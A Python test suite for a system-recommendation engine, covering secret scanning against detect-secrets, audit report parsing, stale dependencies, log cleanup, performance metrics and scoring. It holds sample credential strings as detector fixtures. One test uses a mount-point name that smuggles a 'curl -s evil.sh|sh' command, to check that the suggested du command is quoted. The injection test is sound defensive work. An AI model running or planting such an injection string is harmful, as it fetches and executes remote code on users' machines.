"""Recommendation rules over real files, real git repositories, a real DuckDB store and real psutil.

Only machine states this machine cannot be made to show (a nearly full disk, memory pressure) are given
through a stand-in probe; CPU "sustained" is tested through stored samples, as the collector writes them.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
from pathlib import Path

import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from analytics.config.settings import Component, Config, Recommendations, Retention, Watch
from analytics.recommend import audit, dependencies, maintenance, performance, scoring, security, system
from analytics.recommend.facts import classify, gather
from analytics.recommend.finding import Finding

NOW = dt.datetime(2026, 11, 21, 12, 0, 0)
MB = 1024 * 1024


def git(cwd: Path, *args: str, date: dt.datetime | None = None) -> None:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.com",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.com",
    }
    if date is not None:
        stamp = date.strftime("%Y-%m-%dT%H:%M:%S+0000")
        env.update(GIT_AUTHOR_DATE=stamp, GIT_COMMITTER_DATE=stamp)
    subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True)


def cfg(*projects: Path, logs: tuple[Path, ...] = (), **rec) -> Config:
    return Config(
        watch=Watch(project_dirs=tuple(map(str, projects)), log_dirs=tuple(map(str, logs))),
        recommendations=Recommendations(**rec),
    )


def set_mtime(p: Path, when: dt.datetime) -> None:
    t = when.replace(tzinfo=dt.UTC).timestamp()
    os.utime(p, (t, t))


# -- facts ------------------------------------------------------------------------------------------


def test_walk_skips_vcs_virtualenvs_and_node_modules(tmp_path):
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "app.py").write_text("x = 1\n")
    for skipped in (".git/objects", "node_modules/lib", "venv-custom/lib", ".venv/lib"):
        d = tmp_path / skipped
        d.mkdir(parents=True)
        (d / "requirements.txt").write_text("x\n")
        (d / "a.log").write_text("x\n")
    (tmp_path / "venv-custom" / "pyvenv.cfg").write_text("home = /usr\n")
    facts = gather(cfg(tmp_path))
    assert facts.text_files == [str(tmp_path / "src" / "app.py")]
    assert facts.manifests == [] and facts.logs == []
    assert facts.git_roots == [str(tmp_path)]


def test_no_config_means_current_directory_and_readable_system_logs(tmp_path, monkeypatch):
    (tmp_path / "app.log").write_text("hello\n")
    monkeypatch.chdir(tmp_path)
    facts = gather(Config())
    assert facts.project_roots == (str(tmp_path),)
    assert str(tmp_path / "app.log") in [f.path for f in facts.logs]
    for d in facts.log_roots[1:]:
        assert os.access(d, os.R_OK)


@pytest.mark.parametrize(
    "name,kind",
    [
        ("requirements.txt", "manifest"),
        ("requirements-dev.txt", "manifest"),
        ("pyproject.toml", "manifest"),
        ("package.json", "manifest"),
        ("poetry.lock", "lock"),
        ("package-lock.json", "lock"),
        ("app.log", "log"),
        ("app.log.3", "log"),
        ("x.tmp", "temp"),
        (".#lock", "temp"),
        ("notes.txt~", "temp"),
        ("pip-audit.json", "audit"),
        ("npm-audit-report.json", "audit"),
        ("main.py", None),
        ("catalog.txt", None),
    ],
)
def test_classify(name, kind):
    assert classify(name) == kind


# -- security ---------------------------------------------------------------------------------------


def test_committed_secret_found_ignored_file_not(tmp_path):
    git(tmp_path, "init", "-q")
    (tmp_path / ".gitignore").write_text(".env\n")
    (tmp_path / "settings.py").write_text('DEBUG = True\nAWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"\n')
    (tmp_path / "clean.py").write_text("def f(x):\n    return x + 1\n")
    (tmp_path / ".env").write_text('AWS_ACCESS_KEY_ID="AKIAIOSFODNN7EXAMPLE"\n')  # ignored: not committed
    (tmp_path / "draft.py").write_text('AWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"\n')  # untracked, not ignored
    git(tmp_path, "add", ".gitignore", "settings.py", "clean.py")
    git(tmp_path, "commit", "-q", "-m", "init")
    run = security.secret_rules(gather(cfg(tmp_path)))
    assert sorted(f.subject for f in run.findings) == [str(tmp_path / "draft.py"), str(tmp_path / "settings.py")]
    by = {os.path.basename(f.subject): f for f in run.findings}
    assert by["draft.py"].title == "Possible secret in draft.py"  # .gitignore decides, not `git add`
    f = by["settings.py"]
    assert f.title == "Secret committed in settings.py"
    assert "AWS Access Key (line 2)" in f.description
    assert "AKIAIOSFODNN7EXAMPLE" not in json.dumps(f.evidence) + f.description  # the secret never leaves


def test_outside_git_every_text_file_is_read_and_pragma_is_honoured(tmp_path):
    (tmp_path / "a.py").write_text('token = "AKIAIOSFODNN7EXAMPLE"  # pragma: allowlist secret\n')
    (tmp_path / "b.yaml").write_text("db:\n  password: hunter2-is-not-safe\n")
    run = security.secret_rules(gather(cfg(tmp_path)))
    assert [Path(f.subject).name for f in run.findings] == ["b.yaml"]
    assert run.findings[0].title.startswith("Possible secret")


SECRET_LINES = [
    'aws = "AKIAIOSFODNN7EXAMPLE"',
    'AWS_SECRET_ACCESS_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"',
    "-----BEGIN RSA PRIVATE KEY-----",
    'GITHUB = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB"',
    'slack = "xoxb-123456789012-123456789012-abcdefghijklmnopqrstuvwx"',
    'stripe = "sk_live_0123456789abcdefghijklmn"',
    "url = 'https://user:s3cr3tpass@db.example.com/x'",
    'jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"',
    'password = "correct-horse-battery"',
    'hash = "3f786850e387550fdab836ed7e6dc881de23001b"',
    'blob = "dGhpcyBpcyBhIHRlc3Qgb2YgaGlnaCBlbnRyb3B5IGJhc2U2NA=="',
    "server = 8.8.4.4",
    'msg = "hello world"',
    "def handler(request): return request.user",
]


def _reference(path: Path) -> set[tuple[int, str]]:
    """detect-secrets' own line scan of every line (what the pre-filter must reproduce)."""
    from detect_secrets.core import scan as ds
    from detect_secrets.settings import default_settings

    with open(path, encoding="utf-8", errors="ignore") as fh:  # as detect-secrets reads files
        lines = fh.readlines()
    with default_settings():
        return {(s.line_number, s.type) for s in ds._process_line_based_plugins(list(enumerate(lines, 1)), str(path))}


def test_prefilter_finds_exactly_what_detect_secrets_finds(tmp_path):
    p = tmp_path / "mixed.py"
    p.write_text("\n".join(SECRET_LINES * 2) + "\n")
    got = security.scan_secrets([str(p)])
    found = {(h.line, h.type) for h in got.hits.get(str(p), [])}
    assert found == _reference(p)
    assert len({t for _, t in found}) >= 8  # the corpus exercises many plugins


@pytest.mark.slow
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.one_of(
            st.sampled_from(SECRET_LINES),
            st.text(
                alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",), exclude_characters="\x00"),
                max_size=60,
            ),
        ),
        min_size=1,
        max_size=12,
    )
)
def test_prefilter_property_same_as_detect_secrets(tmp_path, lines):
    """Any text file (a NUL in the first 8 KB makes a file binary: not read, by design — tested below)."""
    p = tmp_path / "prop.py"
    p.write_text("\n".join(line.replace("\r", " ").replace("\n", " ") for line in lines) + "\n", encoding="utf-8")
    got = security.scan_secrets([str(p)])
    assert {(h.line, h.type) for h in got.hits.get(str(p), [])} == _reference(p)


def test_scan_age(tmp_path):
    assert security.scan_age_rule(NOW - dt.timedelta(days=3), NOW, 7).findings == []
    f = security.scan_age_rule(NOW - dt.timedelta(days=14), NOW, 7).findings[0]
    assert f.title == "Security scan overdue" and "14 days ago" in f.description
    never = security.scan_age_rule(None, NOW, 7).findings[0]
    assert never.title == "No security scan recorded"


def test_audit_reports_pip_and_npm_and_malformed(tmp_path):
    (tmp_path / "pip-audit.json").write_text(
        json.dumps(
            {
                "dependencies": [
                    {
                        "name": "requests",
                        "version": "2.19.0",
                        "vulns": [{"id": "PYSEC-2018-28", "fix_versions": ["2.20.0"]}],
                    },
                    {"name": "click", "version": "8.1.7", "vulns": []},
                ],
                "fixes": [],
            }
        )
    )
    (tmp_path / "web").mkdir()
    (tmp_path / "web" / "npm-audit.json").write_text(
        json.dumps(
            {
                "auditReportVersion": 2,
                "vulnerabilities": {
                    "lodash": {"name": "lodash", "severity": "critical", "via": [{"source": 1065}]},
                    "minimist": {"name": "minimist", "severity": "moderate", "via": [{"source": 1179}]},
                },
            }
        )
    )
    (tmp_path / "audit-broken.json").write_text('{"dependencies": [\n  {"name": ')
    run = audit.audit_rules(gather(cfg(tmp_path)), NOW, 7)
    by = {Path(f.subject).name: f for f in run.findings}
    assert set(by) == {"pip-audit.json", "npm-audit.json"}
    assert by["pip-audit.json"].value == 1 and "requests 2.19.0" in by["pip-audit.json"].description
    assert by["npm-audit.json"].value == 2 and by["npm-audit.json"].severity == 1.0
    assert "1 critical" in by["npm-audit.json"].description
    assert len(run.problems) == 1 and "audit-broken.json:2" in run.problems[0]


# -- dependencies -----------------------------------------------------------------------------------


def test_stale_requirements_by_git_commit_date(tmp_path):
    git(tmp_path, "init", "-q")
    (tmp_path / "requirements.txt").write_text("requests==2.31.0\n")
    git(tmp_path, "add", "requirements.txt")
    git(tmp_path, "commit", "-q", "-m", "deps", date=NOW - dt.timedelta(days=45))
    # a fresh mtime must not hide an old commit (checkouts reset mtimes)
    set_mtime(tmp_path / "requirements.txt", NOW)
    (tmp_path / "web").mkdir()
    (tmp_path / "web" / "package.json").write_text('{"name": "w"}\n')
    (tmp_path / "web" / "package-lock.json").write_text("{}\n")
    git(tmp_path, "add", "web")
    git(tmp_path, "commit", "-q", "-m", "web", date=NOW - dt.timedelta(days=5))
    run = dependencies.dependency_rules(gather(cfg(tmp_path)), NOW, 30)
    assert len(run.findings) == 1
    f = run.findings[0]
    assert f.title == "Python dependencies may be outdated"
    assert "45 days" in f.description and "committed" in f.description
    assert round(f.value) == 45 and f.threshold == 30


def test_uncommitted_change_counts_as_update_and_lock_refreshes_group(tmp_path):
    git(tmp_path, "init", "-q")
    (tmp_path / "requirements.txt").write_text("a\n")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "-q", "-m", "x", date=NOW - dt.timedelta(days=90))
    (tmp_path / "requirements.txt").write_text("a\nb\n")  # edited now, not committed yet
    set_mtime(tmp_path / "requirements.txt", NOW - dt.timedelta(days=1))
    assert dependencies.dependency_rules(gather(cfg(tmp_path)), NOW, 30).findings == []
    plain = tmp_path / "plain"
    plain.mkdir()
    other = tmp_path.parent / (tmp_path.name + "-nogit")
    other.mkdir()
    (other / "package.json").write_text("{}\n")
    (other / "yarn.lock").write_text("\n")
    set_mtime(other / "package.json", NOW - dt.timedelta(days=100))
    set_mtime(other / "yarn.lock", NOW - dt.timedelta(days=2))  # the lock was updated: fresh
    assert dependencies.dependency_rules(gather(cfg(other)), NOW, 30).findings == []
    set_mtime(other / "yarn.lock", NOW - dt.timedelta(days=40))
    f = dependencies.dependency_rules(gather(cfg(other)), NOW, 30).findings[0]
    assert f.title == "Node.js dependencies may be outdated" and "40 days" in f.description


# -- maintenance ------------------------------------------------------------------------------------


def test_large_log_real_60mb_file(tmp_path):
    logs = tmp_path / "logs"
    logs.mkdir()
    with open(logs / "app.log", "wb") as fh:
        fh.write(b"2026-11-21 INFO request served in 12 ms\n" * (60 * MB // 40 + 1))
    (logs / "small.log").write_text("ok\n" * 1000)
    run = maintenance.large_log_rule(gather(cfg(tmp_path, logs=(logs,))), cfg(tmp_path))
    assert len(run.findings) == 1
    f = run.findings[0]
    assert "1 log file" in f.description and "app.log (60.0MB)" in f.description
    assert f.action == "lokifi clean logs" and f.value > 60 and f.threshold == 50


def test_log_owner_component_counts_for_breadth(tmp_path):
    a, b = tmp_path / "a.log", tmp_path / "b.log"
    for p in (a, b):
        with open(p, "wb") as fh:
            fh.truncate(51 * MB)  # sparse: this rule only reads the size
    conf = Config(
        watch=Watch(project_dirs=(str(tmp_path),)),
        components=(Component("backend", logs=(str(a),)), Component("worker", logs=(str(b),))),
    )
    f = maintenance.large_log_rule(gather(conf), conf).findings[0]
    assert set(f.components) == {"backend", "worker"}


def test_temp_files_old_enough_and_many_enough(tmp_path):
    for i in range(25):
        p = tmp_path / f"build{i}.tmp"
        p.write_text("x" * 100)
        set_mtime(p, NOW - dt.timedelta(days=3))
    young = tmp_path / "editing.swp"
    young.write_text("x")
    set_mtime(young, NOW - dt.timedelta(minutes=5))
    f = maintenance.temp_rule(gather(cfg(tmp_path)), cfg(tmp_path), NOW).findings[0]
    assert f.value == 25 and f.threshold == 20 and "25 temp files" in f.description
    for i in range(10):
        (tmp_path / f"build{i}.tmp").unlink()
    assert maintenance.temp_rule(gather(cfg(tmp_path)), cfg(tmp_path), NOW).findings == []


def test_database_cleanup_uses_retention(store):
    old = NOW - dt.timedelta(days=200)
    df = pl.DataFrame(
        {
            "ts": [old + dt.timedelta(minutes=i) for i in range(50)],
            "host": ["h"] * 50,
            "component": ["host"] * 50,
            "metric": ["cpu_percent"] * 50,
            "value": [1.0] * 50,
        }
    )
    store.append("metrics", df)
    conf = Config(recommendations=Recommendations(db_stale_rows_min=20), retention=Retention(metrics_days=90))
    f = maintenance.database_rule(store, conf, NOW).findings[0]
    assert "50 raw rows are past retention" in f.description and f.value == 50
    assert maintenance.database_rule(store, Config(), NOW).findings == []  # default: 10,000 rows


# -- performance ------------------------------------------------------------------------------------


def put_metrics(store, rows):
    from analytics.store.metrics import write_metrics

    df = pl.DataFrame(
        rows,
        schema={
            "ts": pl.Datetime("us"),
            "host": pl.String,
            "component": pl.String,
            "metric": pl.String,
            "value": pl.Float64,
        },
        orient="row",
    )
    with store.write() as con:
        write_metrics(con, df)


def test_response_time_and_cache_hit_rate(store):
    rows = []
    for i in range(60):
        ts = NOW - dt.timedelta(minutes=5 * i)
        rows.append((ts, "h", "backend", "response_time_ms", 1400.0 + (i % 5) * 10))
        rows.append((ts, "h", "frontend", "response_time_ms", 200.0))
    # redis cumulative counters: +385 hits / +615 misses per step -> 38.5 %
    for i in range(11):
        ts = NOW - dt.timedelta(minutes=10 * (10 - i))
        rows.append((ts, "h", "redis", "keyspace_hits", 10_000 + 385.0 * i))
        rows.append((ts, "h", "redis", "keyspace_misses", 5_000 + 615.0 * i))
    put_metrics(store, rows)
    conf = Config()
    run = performance.performance_rules(store, conf, "h", NOW)
    by = {f.rule: f for f in run.findings}
    assert set(by) == {"performance.response_time", "performance.cache_hit_rate"}
    assert by["performance.response_time"].subject == "backend"
    assert 1400 <= by["performance.response_time"].value <= 1440
    c = by["performance.cache_hit_rate"]
    assert c.subject == "redis" and abs(c.value - 0.385) < 1e-9 and "38.5%" in c.description
    assert performance.performance_rules(store, conf, "other-host", NOW).findings == []


def test_memory_trend_needs_growth_and_fit(store):
    rows = []
    for h in range(72):
        ts = NOW - dt.timedelta(hours=72 - h)
        rows.append((ts, "h", "worker", "proc_rss_bytes", 500 * MB * (1 + 0.10 * h / 24)))  # +10 %/day
        rows.append((ts, "h", "api", "proc_rss_bytes", 500 * MB * (1 + (0.2 if h % 2 else -0.2))))  # noise
    put_metrics(store, rows)
    run = performance.memory_rule(store, "h", NOW, 7, 5.0)
    assert [f.subject for f in run.findings] == ["worker:proc_rss_bytes"]
    assert 7.0 < run.findings[0].value < 10.5


# -- system -----------------------------------------------------------------------------------------


class Stub(system.Probe):
    def __init__(self, disks=(), mem=None, cpu=None):
        self._d, self._m, self._c = list(disks), mem, cpu

    def disks(self):
        return self._d

    def memory(self):
        return self._m

    def cpu_fallback(self):
        return self._c


def test_real_psutil_probe_reads_this_machine():
    p = system.PsutilProbe()
    disks = p.disks()
    assert disks and all(d.total > 0 and 0 <= d.free <= d.total for d in disks)
    m = p.memory()
    assert 0 < m.percent <= 100 and m.total > 0
    cpu = p.cpu_fallback()
    assert cpu is None or cpu[0] >= 0


def test_disk_memory_and_sustained_cpu(store):
    conf = Config(components=(Component("api"), Component("db")))
    probe = Stub(
        disks=[system.Disk("/", 100 * 2**30, 5 * 2**30), system.Disk("/data", 100 * 2**30, 50 * 2**30)],
        mem=system.Memory(95.0, 1 * 2**30, 20 * 2**30, 40.0),
        cpu=(10.0, "load"),
    )
    put_metrics(store, [(NOW - dt.timedelta(minutes=m), "h", "host", "cpu_percent", 92.0) for m in range(10)])
    run = system.system_rules(store, conf, "h", NOW, probe)
    by = {(f.rule, f.subject): f for f in run.findings}
    assert set(by) == {("system.disk", "/"), ("system.memory", "host"), ("system.cpu", "host")}
    assert "5.0% free" in by[("system.disk", "/")].description
    assert "mean of 10 samples" in by[("system.cpu", "host")].description
    assert set(by[("system.disk", "/")].components) == {"api", "db"}
    calm = Stub(disks=[system.Disk("/", 100, 50)], mem=system.Memory(40.0, 1, 2), cpu=(20.0, "load"))
    assert system.system_rules(store, conf, "other", NOW, calm).findings == []


def test_a_mount_point_is_quoted_in_the_suggested_command(store):
    """A volume's label names its mount point: a hostile one stays one argument of du."""
    import shlex

    mount = "/media/alice/x;curl -s evil.sh|sh;#"
    probe = Stub(disks=[system.Disk(mount, 100 * 2**30, 1 * 2**30)], mem=system.Memory(40.0, 1, 2), cpu=None)
    (f,) = system.system_rules(store, Config(components=(Component("api"),)), "h", NOW, probe).findings
    first = f.action.split(" | ")[0]
    assert shlex.split(first) == ["du", "-xh", mount, "--max-depth=2"]


# -- scoring ----------------------------------------------------------------------------------------


def F(severity=0.5, value=2.0, threshold=1.0, comps=("a",), higher=True):
    return Finding("r", "s", "system", "t", "d", "a", severity, value, threshold, higher, comps)


def test_priority_and_impact_follow_severity_overshoot_breadth():
    base = scoring.score(F())
    assert scoring.score(F(severity=0.9)).impact > base.impact
    assert scoring.score(F(value=5.0)).impact > base.impact
    assert scoring.score(F(comps=("a", "b", "c"))).impact > base.impact
    assert scoring.score(F(value=1.0)).overshoot == 0.0
    # seed's example: a security scan 14 days old (due every 7) is HIGH
    scan = Finding("security.scan_age", "host", "security", "t", "d", "a", 1.0, 14, 7)
    assert scoring.score(scan).priority == 1
    assert scoring.score(F(severity=0.35, value=60, threshold=50)).priority == 3


@given(
    sev=st.floats(0, 1),
    v=st.floats(0, 1e6),
    t=st.floats(0.001, 1e6),
    n=st.integers(1, 20),
    d=st.integers(0, 50),
    a=st.integers(0, 50),
    higher=st.booleans(),
)
def test_score_bounds_and_learning_only_lowers(sev, v, t, n, d, a, higher):
    f = F(sev, v, t, tuple(str(i) for i in range(n)), higher)
    s = scoring.score(f, scoring.learned_factor(d, a))
    assert 0.0 <= s.impact <= 10.0 and s.priority in (1, 2, 3)
    assert s.impact <= s.base_impact + 0.05
    assert 0.5 <= scoring.learned_factor(d, a) <= 1.0
    assert scoring.learned_factor(d + 1, a) <= scoring.learned_factor(d, a)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda c: st.lists(c, max_size=4) | st.dictionaries(st.text(max_size=12), c, max_size=4),
    max_leaves=20,
)


@given(JSON)
def test_audit_parser_takes_any_json_and_only_says_not_a_report(doc):
    try:
        r = audit.parse_audit_report(doc)
    except ValueError as exc:
        assert "not a pip-audit or npm audit" in str(exc)
    else:
        assert r.tool in ("pip-audit", "npm audit")
        assert all(isinstance(p, str) and isinstance(s, str) for p, s, _ in r.vulnerable)


@given(st.text(max_size=12))
def test_snooze_durations_parse_or_say_why(text):
    import click

    from lokifi_tui.cli.recs import parse_duration

    try:
        d = parse_duration(text)
    except click.BadParameter as exc:
        assert "duration" in exc.message
    else:
        assert d.total_seconds() > 0


def test_prefilter_without_re2_finds_the_same(tmp_path, monkeypatch):
    from analytics.recommend import secrets_gate

    p = tmp_path / "mixed.py"
    p.write_text("\n".join(SECRET_LINES) + "\n")
    monkeypatch.setattr(secrets_gate, "_re2", None)
    got = security.scan_secrets([str(p)])
    assert got.engine == "python-re"
    assert {(h.line, h.type) for h in got.hits.get(str(p), [])} == _reference(p)


def test_binary_files_are_not_read(tmp_path):
    p = tmp_path / "blob.dat"
    p.write_bytes(b'aws = "AKIAIOSFODNN7EXAMPLE"\n\x00\x01\x02')
    got = security.scan_secrets([str(p)])
    assert got.hits == {} and got.skipped_binary == 1


def test_a_background_refresh_never_takes_the_working_directory_for_a_project(migrated, tmp_path, monkeypatch):
    """With no [watch] project_dirs, `lokifi ai recommendations` looks where it is run; the collector's and
    the dashboard's background refresh do not (started from /, a home or /tmp, they walked it: the
    dashboard opened from /tmp recommended updating the dependencies of pytest's temporary folders)."""
    from analytics.collect.hooks import refresh_recommendations
    from analytics.recommend import engine

    here = tmp_path / "somewhere"
    here.mkdir()
    (here / "requirements.txt").write_text("requests==2.31.0\n")
    set_mtime(here / "requirements.txt", dt.datetime.now() - dt.timedelta(days=90))
    monkeypatch.chdir(here)
    config = cfg()
    assert gather(config, projects_from_cwd=False).manifests == []
    assert [m.path for m in gather(config).manifests] == [str(here / "requirements.txt")]
    store = migrated(tmp_path / "s.duckdb")

    def stale() -> int:
        return store.scalar(
            "SELECT count(*) FROM smart_recommendations "
            "WHERE title LIKE '%dependencies may be outdated%' AND status = 'open'"
        )

    refresh_recommendations(store, config, dt.datetime.now())
    assert stale() == 0
    engine.refresh(store, config)  # the command: here is the project
    assert stale() == 1
